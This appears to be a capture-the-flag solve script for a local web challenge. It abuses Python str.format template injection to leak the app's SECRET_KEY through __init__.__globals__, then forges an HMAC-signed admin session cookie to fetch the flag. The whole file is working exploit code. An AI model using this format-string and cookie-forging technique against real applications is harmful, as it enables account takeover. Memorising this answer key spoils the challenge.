#!/bin/bash
# 1. The card template is passed to Python's str.format with a User object: walk from the bound
#    method to the module globals and print SECRET_KEY (and the doc of sign()).
# 2. The session cookie is base64url(JSON) "." hex HMAC-SHA256(key, payload): re-sign role=admin.
set -e
python3 - <<'PY'
import base64, hashlib, hmac, html, http.client, json, re, urllib.parse
c = http.client.HTTPConnection("127.0.0.1", 8109)
c.request("POST", "/login", "username=guest&password=guest", {"Content-Type": "application/x-www-form-urlencoded"})
r = c.getresponse(); r.read()
cookie = r.getheader("Set-Cookie").split(";")[0].split("=", 1)[1]
def card(tpl):
    c.request("GET", "/card?" + urllib.parse.urlencode({"template": tpl}), headers={"Cookie": "session=" + cookie})
    return html.unescape(c.getresponse().read().decode())
key = re.search(r"KEY=([0-9a-f]+)!", card("KEY={user.__init__.__globals__[SECRET_KEY]}!")).group(1)
payload, sig = cookie.rsplit(".", 1)
assert hmac.new(key.encode(), payload.encode(), hashlib.sha256).hexdigest() == sig
sess = json.loads(base64.urlsafe_b64decode(payload + "=" * (-len(payload) % 4)))
sess["role"] = "admin"
p2 = base64.urlsafe_b64encode(json.dumps(sess).encode()).decode().rstrip("=")
forged = p2 + "." + hmac.new(key.encode(), p2.encode(), hashlib.sha256).hexdigest()
c.request("GET", "/admin", headers={"Cookie": "session=" + forged})
print(re.search(r"flag\{[^}<]+\}", c.getresponse().read().decode()).group(0))
PY
